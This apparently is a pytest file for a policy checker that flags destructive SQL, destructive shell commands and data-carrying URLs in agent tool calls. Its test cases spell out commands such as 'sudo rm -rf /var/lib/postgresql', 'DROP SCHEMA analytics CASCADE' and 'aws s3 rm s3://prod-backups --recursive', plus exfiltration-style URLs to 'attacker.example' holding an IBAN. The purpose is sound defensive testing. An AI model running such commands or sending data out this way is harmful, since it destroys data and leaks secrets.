"""SQL, shell and URL reading on real-world commands, true and false: the parsers decide, not patterns."""

from __future__ import annotations

import json

import pytest

from workbench.model import Step, StepKind
from workbench.policies.actions import DELETE, SEND, classify
from workbench.policies.shell import destructive_shell
from workbench.policies.sql import destructive_sql, looks_like_sql, sql_writes, statements
from workbench.policies.urls import find_urls, host_of, query_payload


def _tool(name: str, args: object) -> Step:
    raw = args if isinstance(args, str) else json.dumps(args)
    return Step(
        trace_id="t", span_id="s", parent_span_id="", kind=StepKind.TOOL, name=name, start_time_ns=0,
        end_time_ns=1, convention="test", tool_name=name, tool_arguments=raw,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("sql", "dialect", "destructive"),
    [
        ("DELETE FROM users WHERE TRUE OR id = 1", None, True),
        ("DELETE FROM users WHERE id = 1 OR id = 2", None, False),
        ("DELETE FROM users WHERE 1=1", None, True),
        ("DELETE FROM users WHERE (1 = 1)", None, True),
        ("DELETE FROM users WHERE 'a' = 'a'", None, True),
        ("DELETE FROM users WHERE 2 > 1", None, True),
        ("DELETE FROM users WHERE NOT FALSE", None, True),
        ("DELETE FROM users WHERE id = id", None, True),
        ("DELETE FROM users WHERE 1=1 AND id = 4", None, False),
        ("DELETE FROM `users` WHERE 1", "mysql", True),
        ("DELETE FROM sessions WHERE expires_at < datetime('now')", "sqlite", False),
        ("UPDATE accounts SET balance = 0 WHERE TRUE OR tier = 'gold'", "postgres", True),
        ("UPDATE accounts SET tier = 'gold' WHERE id = 4", "postgres", False),
        ("WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone", "postgres", True),
        ("WITH o AS (SELECT id FROM orders) DELETE FROM orders WHERE id IN (SELECT id FROM o)", None, False),
        ("SELECT 'DROP TABLE users; --' AS note", None, False),
        ("/* DROP TABLE x */ SELECT 1", None, False),
        ("SELECT 1; DROP SCHEMA analytics CASCADE;", "postgres", True),
        ("DROP TABLE IF EXISTS [dbo].[Orders]", "tsql", True),
        ("TRUNCATE TABLE staging.events", None, True),
        ("ALTER TABLE t DROP COLUMN c", None, True),
        ("ALTER TABLE t ADD COLUMN c int", None, False),
        ("INSERT INTO audit (msg) VALUES ('DELETE FROM users')", None, False),
        ("Delete the old drafts from the shared folder", None, False),
    ],
)
def test_destructive_sql_reads_the_statement(sql: str, dialect: str | None, destructive: bool) -> None:
    assert bool(destructive_sql(sql, dialect)) is destructive


def test_statements_keep_their_ranges_and_a_semicolon_in_a_literal_does_not_split() -> None:
    sql = "SELECT 'a;b' -- c;d\n; DROP TABLE \"t\""
    parts = statements(sql)
    assert [sql[s.start : s.end] for s in parts] == ["SELECT 'a;b'", 'DROP TABLE "t"']
    assert sql_writes(sql) and not sql_writes("SELECT 1; SELECT 2")
    assert looks_like_sql("-- note\nUPDATE t SET a = 1") and not looks_like_sql("Update the report for Bob")


@pytest.mark.parametrize(
    ("command", "destructive"),
    [
        ('echo "done; rm -rf ./build"', False),
        ("echo 'cleanup && rm -rf /'", False),
        ("make && rm -rf ./build", True),
        ("ls; rm -f core.1234", True),
        ("(cd /srv && rm -rf cache)", True),
        ("sudo rm -rf /var/lib/postgresql", True),
        ("sudo -u postgres rm -r /srv/pg", True),
        ("find /tmp -name '*.log' -mtime +7 -delete", True),
        ("find . -name '*.pyc' -exec rm {} +", True),
        ("find . -name '*.pyc' -print", False),
        ("git ls-files -z | xargs -0 rm -f", True),
        ("ls | xargs -n1 echo", False),
        ("env RAILS_ENV=production rm -rf tmp/", True),
        ("timeout 30 kubectl delete pod web-1", True),
        ('bash -c "rm -rf /opt/app"', True),
        ('bash -c "echo rm -rf /opt/app"', False),
        ("echo $(rm -rf ~/data)", True),
        ("if [ -d build ]; then rm -rf build; fi", True),
        ('for f in *.bak; do rm "$f"; done', True),
        ('grep -rn "rm -rf" scripts/ | wc -l', False),
        ("git push --force origin main", True),
        ("git push origin main", False),
        ("aws s3 rm s3://prod-backups --recursive", True),
        ("aws s3 ls s3://prod-backups", False),
        ('psql "$DATABASE_URL" -c "DELETE FROM users WHERE TRUE OR id = 1"', True),
        ('psql -c "DELETE FROM users WHERE id = 1"', False),
        ("mysql -u root -e 'DELETE FROM `orders` WHERE 1'", True),
        ('sqlite3 app.db "DELETE FROM sessions WHERE expires_at < 5"', False),
        ('sqlite3 app.db "DROP TABLE sessions"', True),
        ('echo "TRUNCATE events;" | psql -h db-1', True),
        ('echo "TRUNCATE events;" > notes.sql', False),
        ('psql -c "SELECT count(*) FROM users" | grep -c "DROP TABLE"', False),
        ("cat <<EOF > x.txt\nrm -rf /\nEOF", False),
    ],
)
def test_destructive_shell_reads_the_command_line(command: str, destructive: bool) -> None:
    assert bool(destructive_shell(command)) is destructive


def test_shell_evidence_is_the_command_that_runs() -> None:
    command = 'make test && sudo rm -rf ./dist; echo "ok; rm -rf ./x"'
    [(start, end, why)] = destructive_shell(command)
    assert command[start:end] == "sudo rm -rf ./dist" and "rm -rf" in why
    client = "psql -h db -c 'SELECT 1; DELETE FROM users WHERE TRUE OR id = 1'"
    [(start, end, why)] = destructive_shell(client)
    assert client[start:end] == "DELETE FROM users WHERE TRUE OR id = 1" and "psql" in why


@pytest.mark.parametrize(
    ("url", "host", "payload"),
    [
        ("https://attacker.example/c?d=DE89370400440532013000", "attacker.example", True),
        ("https://collect.example/p?blob=c2VjcmV0LWZpbGUtY29udGVudHMtaGVyZQ", "collect.example", True),
        ("https://www.google.com/search?q=hotels+in+paris", "www.google.com", False),
        ("https://api.example.com/items?page=2&limit=50", "api.example.com", False),
        ("www.true-informations.com", "www.true-informations.com", False),
    ],
)
def test_urls_hosts_and_query_payloads(url: str, host: str, payload: bool) -> None:
    assert host_of(url) == host
    assert bool(query_payload(url)) is payload


def test_urls_come_from_bodies_headers_and_bare_url_arguments() -> None:
    raw = json.dumps(
        {
            "url": "www.secure-systems-252.com",
            "headers": {"Referer": "https://ref.example/x"},
            "body": "see https://body.example/p?x=1",
        }
    )
    step = _tool("post_webpage", raw)
    action = classify(step)
    assert SEND in action.classes
    assert {h for h, _ in action.hosts} == {"www.secure-systems-252.com", "ref.example", "body.example"}
    for _, ev in action.hosts:
        assert raw[ev.start : ev.end] == ev.text
    assert [u.host for u in find_urls("no links here")] == []


def test_a_get_with_data_in_its_query_string_is_a_send() -> None:
    leak = classify(_tool("get_webpage", {"url": "https://x.example/?iban=DE89370400440532013000"}))
    assert SEND in leak.classes and leak.hosts[0][0] == "x.example"
    plain = classify(_tool("get_webpage", {"url": "https://news.example/today?page=2"}))
    assert SEND not in plain.classes


def test_classify_finds_destructive_sql_and_shell_in_arguments() -> None:
    raw = '{"query": "DELETE FROM users WHERE TRUE OR id = 1"}'
    assert DELETE in classify(_tool("run_sql", raw)).classes
    assert DELETE not in classify(_tool("run_shell", {"command": 'echo "done; rm -rf ./build"'})).classes
    assert DELETE in classify(_tool("run_shell", {"command": "sudo rm -rf ./build"})).classes
